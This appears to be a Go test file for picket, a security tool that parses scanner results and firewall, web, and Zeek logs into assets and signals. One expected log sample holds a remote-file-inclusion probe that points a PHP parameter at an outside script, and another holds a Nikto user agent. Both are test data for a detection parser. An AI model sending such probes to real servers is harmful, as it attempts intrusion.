package input

import (
	"bytes"
	"context"
	"os"
	"strings"
	"testing"

	"github.com/picket-dns/picket"
	"github.com/picket-dns/picket/internal/pickettest"
)

// TestSharedAssetsAndSignals reads what third parties' scanners and sensors wrote,
// with literal results.
func TestSharedAssetsAndSignals(t *testing.T) {
	tests := []struct {
		file, format string
		kind         picket.Kind
		accepted     int64
		rejected     reasons
		skipped      map[string]int64
		first, last  string
		sample       string // a part of the first record
		notes        int
	}{
		{file: "attack-surface/securecodebox--amass-example.com.jsonl", format: "amass", kind: picket.KindAsset, accepted: 1,
			sample: `{"name":"www.example.de.","addrs":["10.110.225.135"],"tool":"amass","tags":["cert"],"details":{"asn":"34011","cidr":"10.110.224.0/21","desc":"GD-EMEA-DC-CGN1","domain":"example.de","sources":"CertSpotter"}}`},
		{file: "attack-surface/securecodebox--passive_scan_without_ip_example.com.jsonl", format: "subfinder", kind: picket.KindAsset, accepted: 8,
			sample: `{"name":"releases.example.com.","tool":"subfinder","details":{"input":"example.com","sources":"alienvault"}}`},
		{file: "attack-surface/securecodebox--scanme.nmap.org-ipv6.xml", format: "nmap-xml", kind: picket.KindAsset, accepted: 3,
			first: "2023-04-09T08:47:20Z", last: "2023-04-09T08:47:20Z",
			sample: `{"time":"2023-04-09T08:47:20Z","name":"scanme.nmap.org.","addrs":["2600:3c01::f03c:91ff:fe18:bb2f"],"port":22,"protocol":"tcp","service":"ssh","tool":"nmap"`},
		{file: "attack-surface/django-defectdojo--naabu_many_vuln.json", format: "naabu", kind: picket.KindAsset, accepted: 8,
			first: "2026-07-31T00:00:00Z", last: "2026-07-31T00:00:07Z",
			sample: `{"time":"2026-07-31T00:00:00Z","addrs":["172.29.0.3"],"port":3000,"protocol":"tcp","tool":"naabu"}`},
		{file: "attack-surface/securecodebox--example-com-test.jsonl", format: "nuclei", kind: picket.KindAsset, accepted: 27,
			first: "2022-09-09T19:18:55.271592Z", last: "2022-09-09T19:21:17.696098Z",
			sample: `"name":"example.com.","addrs":["93.184.216.34"],"port":443,"protocol":"tcp","service":"https","title":"HTTP Missing Security Headers","severity":"info"`},
		{file: "attack-surface/django-defectdojo--multiple_v3.json", format: "nuclei", kind: picket.KindAsset, accepted: 6,
			first: "2023-11-06T13:48:31.559886Z", last: "2023-11-06T13:58:58.56985Z",
			sample: `"records":[{"name":"www.asdf.de.","type":"CNAME","class":"IN","ttl":3093,"data":"pointing.wixdns.net."}]`},
		{file: "attack-surface/zdns--axfr.json", format: "zdns", kind: picket.KindAsset, accepted: 1,
			sample: `{"name":"zonetransfer.me.","tool":"zdns","records":[{"name":"zonetransfer.me.","type":"SOA","class":"IN"},{"name":"zonetransfer.me.","type":"HINFO","class":"IN","data":"\"Casio fx-700G\" \"Windows XP\""}`},

		{file: "firewall/hub--iptables-scan-multi-port.log", format: "iptables", kind: picket.KindSignal, accepted: 49, notes: 1,
			first: "2026-09-30T10:09:23Z", last: "2026-10-30T10:09:23Z",
			sample: `"source":"62.34.17.168","source_port":52220,"target":"10.73.140.49","target_port":80,"protocol":"tcp","kind":"connection","bytes":44,"packets":1`},
		{file: "firewall/hub--pf-scan-multi-port.log", format: "pf-filterlog", kind: picket.KindSignal, accepted: 16, skipped: map[string]int64{"blank line": 1}, notes: 1,
			first: "2026-09-30T14:35:50Z", last: "2026-09-30T14:35:50Z",
			sample: `"source":"10.0.2.2","source_port":59576,"target":"10.0.2.15","target_port":22,"protocol":"tcp","kind":"refused","rule":"1000102631","action":"blocked"`},
		{file: "firewall/otel-contrib--valid_vpc_flow_log_multi.log", format: "vpc-flow", kind: picket.KindSignal, accepted: 2, skipped: map[string]int64{"header line": 1},
			first: "2014-12-14T04:06:50Z", last: "2014-12-14T04:06:50Z",
			sample: `"source":"172.31.16.139","source_port":20641,"target":"172.31.16.21","target_port":22,"protocol":"tcp","kind":"connection","action":"allowed","bytes":4249,"packets":20`},
		{file: "web-access/hub--apache-http-probing.log", format: "web-access", kind: picket.KindSignal, accepted: 77,
			first: "2021-09-29T12:37:05Z", last: "2021-09-29T12:37:05Z",
			sample: `"source":"172.17.0.1","protocol":"tcp","kind":"request","title":"GET /src/scripture.php?pageHeaderFile=http://cirt.net/rfiinc.txt??","bytes":196,"tool":"web","details":{"status":"404"}`},
		{file: "web-access/hub--nginx-bad-user-agent.log", format: "web-access", kind: picket.KindSignal, accepted: 3,
			first: "2021-09-29T12:11:34Z", last: "2021-09-29T12:11:34Z",
			sample: `"title":"HEAD /","tool":"web","details":{"agent":"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)","status":"200"}`},
		{file: "web-access/hub--aws-alb-http-bad-user-agent.log", format: "alb-access", kind: picket.KindSignal, accepted: 4,
			first: "2023-04-26T12:23:00.186641Z", last: "2023-04-26T12:23:16.948827Z",
			sample: `"source":"192.168.1.100","source_port":44740,"target":"10.0.0.1","target_port":80,"target_name":"www.example.com.","protocol":"tcp","kind":"request"`},
		{file: "zeek-conn-notice/zat--conn.tsv.log", format: "zeek-conn", kind: picket.KindSignal, accepted: 360, skipped: map[string]int64{"header line": 9},
			first: "2013-09-15T23:44:10.690013Z", last: "2013-09-15T23:48:22.876972Z",
			sample: `"source":"192.168.33.10","source_port":1032,"target":"54.245.228.191","target_port":80,"protocol":"tcp","kind":"connection","bytes":38994,"packets":53,"tool":"zeek","details":{"service":"http","state":"RSTO"}`},
		{file: "zeek-conn-notice/zat--notice.log", format: "zeek-notice", kind: picket.KindSignal, accepted: 2, skipped: map[string]int64{"header line": 9},
			first: "2013-09-15T23:44:51.491151Z", last: "2013-09-15T23:44:51.491151Z",
			sample: `"kind":"notice","title":"Malware Hash Registry Detection rate: 14%  Last seen: 2013-09-15 19:31:01","rule":"TeamCymruMalwareHashRegistry::Match"`},
		{file: "zeek-conn-notice/zeek--ssh-bruteforce-notice.log", format: "zeek-notice", kind: picket.KindSignal,
			rejected: reasons{"bad time stamp": {1, 10}}, skipped: map[string]int64{"header line": 10}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			in := inspectFile(t, pickettest.Shared(t, "samples", tt.file))
			if in.Format != tt.format || in.Kind != tt.kind || in.Accepted != tt.accepted || in.Error != "" {
				t.Errorf("format %q of kind %s, accepted %d, error %q; want %q, %s, %d", in.Format, in.Kind, in.Accepted, in.Error, tt.format, tt.kind, tt.accepted)
			}
			checkCounts(t, in, tt.rejected, tt.skipped)
			if first, last := stamp(in.FirstSeen), stamp(in.LastSeen); first != tt.first || last != tt.last {
				t.Errorf("seen %s to %s; want %s to %s", first, last, tt.first, tt.last)
			}
			if tt.sample != "" && (len(in.Sample) == 0 || !strings.Contains(string(in.Sample[0]), tt.sample)) {
				t.Errorf("sample %s\nwant   %s", in.Sample, tt.sample)
			}
			if len(in.Notes) != tt.notes {
				t.Errorf("notes %q", in.Notes)
			}
		})
	}
}

// signals keeps what a decoder hands over.
type signals struct {
	sampler
	assets  []*picket.Asset
	signals []*picket.Signal
}

func (s *signals) Asset(a *picket.Asset) error   { s.assets = append(s.assets, a); return nil }
func (s *signals) Signal(v *picket.Signal) error { s.signals = append(s.signals, v); return nil }

// TestSharedSignalsInAll looks at all records of some samples, by field.
func TestSharedSignalsInAll(t *testing.T) {
	read := func(file string) *signals {
		t.Helper()
		b, err := os.ReadFile(pickettest.Shared(t, "samples", file))
		if err != nil {
			t.Fatal(err)
		}
		sink := &signals{sampler: sampler{in: &Inspection{}}}
		if _, err := Decode(context.Background(), bytes.NewReader(b), Auto, options(), NewCounter(), sink); err != nil {
			t.Fatal(err)
		}
		return sink
	}
	count := func(list []*picket.Signal, f func(*picket.Signal) string) map[string]int {
		m := map[string]int{}
		for _, s := range list {
			m[f(s)]++
		}
		return m
	}
	check := func(what string, got map[string]int, want map[string]int) {
		t.Helper()
		for k, n := range want {
			if got[k] != n {
				t.Errorf("%s: %q %d times, want %d", what, k, got[k], n)
			}
		}
		if len(got) != len(want) {
			t.Errorf("%s: %v, want %v", what, got, want)
		}
	}
	conn := read("zeek-conn-notice/zat--conn.tsv.log").signals
	check("conn kinds", count(conn, func(s *picket.Signal) string { return s.Protocol + " " + s.Kind }), map[string]int{
		"icmp connection": 20, "tcp connection": 111, "tcp refused": 4, "udp connection": 71, "udp refused": 154})
	fw := read("firewall/hub--iptables-scan-multi-port.log").signals
	check("iptables", count(fw, func(s *picket.Signal) string { return s.Title + " " + s.Kind + " " + s.Action }), map[string]int{
		" connection ": 17, "UFW AUDIT connection ": 16, "UFW BLOCK refused blocked": 16})
	pf := read("firewall/hub--pf-scan-multi-port.log").signals
	check("pf", count(pf, func(s *picket.Signal) string { return s.Source.String() + " " + s.Kind }), map[string]int{"10.0.2.2 refused": 16})
	eve := read("suricata-eve/suricata-sample-data--honeypot-alerts-only.json").signals
	check("alerts", count(eve, func(s *picket.Signal) string { return s.Severity }), map[string]int{"medium": 43, "low": 1})
	zone := read("attack-surface/zdns--axfr.json").assets
	if len(zone) != 1 || len(zone[0].Records) != 14 || zone[0].Records[12].Data != `1 1 "P" "E2U+email" "" email.zonetransfer.me.zonetransfer.me.` {
		t.Errorf("zone transfer: %+v", zone)
	}
	dns := 0
	for _, a := range read("attack-surface/securecodebox--example-com-test.jsonl").assets {
		if a.Details["type"] == "dns" {
			dns++
			if a.Port != 0 || a.Name != "example.com." || a.Details["extracted"] == "" {
				t.Errorf("dns result %+v", a)
			}
		}
	}
	if dns != 4 {
		t.Errorf("%d dns results", dns)
	}
}
